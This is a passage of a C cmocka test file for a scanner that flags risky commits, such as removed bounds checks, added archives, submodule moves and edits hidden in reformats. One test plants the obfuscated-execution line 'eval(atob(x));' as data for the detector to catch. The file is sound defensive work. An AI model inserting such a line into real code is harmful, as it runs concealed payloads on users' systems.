    struct sg_arena arena = SG_ARENA_INIT;
    const struct sg_risk_look look = look_at(&arena, plant->message, &change, 1);
    const struct sg_risk_finding *finding = find(&look, plant->rule);
    const bool old = plant->line > OLD_LINE;
    const bool right = finding && finding->line == (old ? plant->line - OLD_LINE : plant->line) &&
                       finding->is_old_line == old;
    const bool good = wanted ? right : !finding;
    if (!good)
        print_error("%s in %s: %s at line %u\n", sg_risk_rule(plant->rule)->id, plant->path,
                    finding ? "found" : "not found", finding ? finding->line : 0);
    sg_arena_clear(&arena);
    return good;
}

static void each_rule_finds_its_plant_on_its_line(void **state)
{
    size_t n_bad = 0;
    (void)state;
    for (size_t i = 0; i < SG_COUNT_OF(planted); i++)
        n_bad += !comes_out(&planted[i], true);
    assert_int_equal(n_bad, 0);
}

static void no_rule_takes_the_honest_look_alike(void **state)
{
    size_t n_bad = 0;
    (void)state;
    for (size_t i = 0; i < SG_COUNT_OF(honest); i++)
        n_bad += !comes_out(&honest[i], false);
    assert_int_equal(n_bad, 0);
}

static void every_rule_says_why_and_what_else_it_may_be(void **state)
{
    (void)state;
    for (int r = 0; r < SG_RISK_RULE_COUNT; r++) {
        const struct sg_risk_rule_info *info = sg_risk_rule((enum sg_risk_rule)r);
        CHECK(info->id[0] && info->title[0] && info->why[0] && info->innocent[0]);
        for (int k = 0; k < r; k++)
            CHECK(strcmp(info->id, sg_risk_rule((enum sg_risk_rule)k)->id) != 0);
    }
}

static void a_check_that_moves_to_another_file_is_not_removed(void **state)
{
    (void)state;
    const struct sg_change changes[] = {
        change_of("src/a.c", c_checked,
                  "int get(int *list, int count, int at)\n{\n    return list[at];\n}\n"),
        change_of(
            "src/b.c", "int all(void)\n{\n    return 0;\n}\n",
            "int all(void)\n{\n    if (at >= count)\n        return -1;\n    return 0;\n}\n")};
    struct sg_arena arena = SG_ARENA_INIT;
    const struct sg_risk_look look = look_at(&arena, NULL, changes, 2);
    CHECK(!find(&look, SG_RISK_CHECK_REMOVED));
    sg_arena_clear(&arena);
}

static void binaries_links_and_modes_are_found_without_reading(void **state)
{
    (void)state;
    struct sg_change changes[] = {change_of("tests/data.xz", NULL,
                                            "\xfd"
                                            "7zXZ"),
                                  change_of("tests/old.xz", "a",
                                            "\xfd"
                                            "7zXZ"),
                                  change_of("lib", "0", "1"), change_of("run", "a\n", "a\n")};
    changes[0].is_binary = changes[1].is_binary = true;
    changes[2].before.mode = changes[2].after.mode = 0160000;
    changes[3].after.mode = 0100755;
    struct sg_arena arena = SG_ARENA_INIT;
    const struct sg_risk_look look = look_at(&arena, NULL, changes, 4);
    CHECK(find(&look, SG_RISK_BLOB_ADDED) && find(&look, SG_RISK_BLOB_ADDED)->change == 0);
    CHECK(find(&look, SG_RISK_BLOB_CHANGED) && find(&look, SG_RISK_BLOB_CHANGED)->change == 1);
    CHECK(find(&look, SG_RISK_SUBMODULE_MOVED) &&
          find(&look, SG_RISK_SUBMODULE_MOVED)->change == 2);
    CHECK(find(&look, SG_RISK_MODE_CHANGED) && find(&look, SG_RISK_MODE_CHANGED)->change == 3);
    sg_arena_clear(&arena);
}

static void a_change_of_a_merge_is_a_finding_and_no_other_commit_has_it(void **state)
{
    (void)state;
    const struct sg_change change = change_of("README", "a\n", "b\n");
    struct sg_commit_view view = {text_of("Merge side"), 2, &change, 1};
    struct sg_arena arena = SG_ARENA_INIT;
    struct sg_risk_look look;
    struct sg_err err;
    CHECK_OK(sg_risk_look(&look, &arena, &view, &err), &err);
    CHECK(find(&look, SG_RISK_MERGE_CHANGE));
    assert_int_equal(find(&look, SG_RISK_MERGE_CHANGE)->change, SG_RISK_NO_CHANGE);
    view.n_parents = 1;
    CHECK_OK(sg_risk_look(&look, &arena, &view, &err), &err);
    CHECK(!find(&look, SG_RISK_MERGE_CHANGE));
    sg_arena_clear(&arena);
}

static void a_picture_weighs_less_than_an_archive(void **state)
{
    (void)state;
    struct sg_change picture = change_of("art/logo.png", NULL, "\x89PNG");
    struct sg_change archive = change_of("art/logo.xz", NULL,
                                         "\xfd"
                                         "7zXZ");
    picture.is_binary = archive.is_binary = true;
    struct sg_arena arena = SG_ARENA_INIT;
    const struct sg_risk_look a = look_at(&arena, NULL, &picture, 1);
    const struct sg_risk_look b = look_at(&arena, NULL, &archive, 1);
    CHECK(a.n_findings == 1 && b.n_findings == 1);
    CHECK(a.findings[0].weight < b.findings[0].weight);
    sg_arena_clear(&arena);
}

static void a_change_inside_a_reformat_is_named(void **state)
{
    (void)state;
    static char before[8192], after[8192];
    size_t n = 0, m = 0;
    for (int i = 0; i < 100; i++) {
        n += (size_t)snprintf(before + n, sizeof(before) - n, "run(%d);\n", i);
        m += (size_t)snprintf(after + m, sizeof(after) - m, "    run(%d);\n", i == 50 ? 51 : i);
    }
    const struct sg_change change = change_of("src/a.js", before, after);
    struct sg_arena arena = SG_ARENA_INIT;
    const struct sg_risk_look look = look_at(&arena, NULL, &change, 1);
    const struct sg_risk_finding *finding = find(&look, SG_RISK_HIDDEN_IN_REFORMAT);
    CHECK(finding && finding->line == 51);
    assert_int_equal(look.n_added, 1);
    assert_int_equal(look.n_removed, 1);
    sg_arena_clear(&arena);
}

static void missing_and_too_large_sides_are_said(void **state)
{
    (void)state;
    struct sg_change missing = change_of("src/a.c", "int a;\n", "int b;\n");
    struct sg_change large = missing;
    missing.before = (struct sg_blob){SG_BLOB_MISSING, {NULL, 0}, 0, 0100644};
    large.after = (struct sg_blob){SG_BLOB_TOO_LARGE, {NULL, 0}, 1u << 30, 0100644};
    struct sg_arena arena = SG_ARENA_INIT;
    const struct sg_risk_look a = look_at(&arena, NULL, &missing, 1);
    const struct sg_risk_look b = look_at(&arena, NULL, &large, 1);
    CHECK(a.is_partial && !a.is_cut && a.n_added == 0);
    CHECK(!b.is_partial && b.is_cut && b.n_added == 0);
    sg_arena_clear(&arena);
}

/* The multiset takes over beyond the bound of the edit script and must say the same of what came.
 */
static void a_file_that_is_wholly_rewritten_is_still_read(void **state)
{
    (void)state;
    static char before[60000], after[60000];
    size_t n = 0, m = 0;
    for (int i = 0; i < 2000; i++) {
        n += (size_t)snprintf(before + n, sizeof(before) - n, "old%d(%d);\n", i, i);
        m += (size_t)snprintf(after + m, sizeof(after) - m, "new%d(%d);\n", i, i);
    }
    (void)snprintf(after + m, sizeof(after) - m, "eval(atob(x));\n");
    const struct sg_change change = change_of("src/a.js", before, after);
    struct sg_arena arena = SG_ARENA_INIT;
    const struct sg_risk_look look = look_at(&arena, NULL, &change, 1);
    assert_int_equal(look.n_added, 2001);
    assert_int_equal(look.n_removed, 2000);
    const struct sg_risk_finding *finding = find(&look, SG_RISK_CODE_EXECUTION);
    CHECK(finding && finding->line == 2001);
    sg_arena_clear(&arena);
}

static enum sg_status look_once(const struct plant *plant)
{
    const struct sg_change change = change_of(plant->path, plant->before, plant->after);
    const struct sg_commit_view view = {text_of("Fix typo"), 1, &change, 1};
    struct sg_arena arena = SG_ARENA_INIT;
    struct sg_risk_look look;
    struct sg_err err;
    const enum sg_status st = sg_risk_look(&look, &arena, &view, &err);
    sg_arena_clear(&arena);
    return st;
}

static void every_refused_allocation_is_reported_and_leaks_nothing(void **state)
{
    (void)state;
    for (size_t i = 0; i < SG_COUNT_OF(planted); i += 7)
        CHECK_OOM_SWEEP(look_once(&planted[i]));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(each_rule_finds_its_plant_on_its_line),
        cmocka_unit_test(no_rule_takes_the_honest_look_alike),
        cmocka_unit_test(every_rule_says_why_and_what_else_it_may_be),
        cmocka_unit_test(a_check_that_moves_to_another_file_is_not_removed),
        cmocka_unit_test(binaries_links_and_modes_are_found_without_reading),
        cmocka_unit_test(a_change_of_a_merge_is_a_finding_and_no_other_commit_has_it),
        cmocka_unit_test(a_picture_weighs_less_than_an_archive),
        cmocka_unit_test(a_change_inside_a_reformat_is_named),
        cmocka_unit_test(missing_and_too_large_sides_are_said),
        cmocka_unit_test(a_file_that_is_wholly_rewritten_is_still_read),
        cmocka_unit_test(every_refused_allocation_is_reported_and_leaks_nothing),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
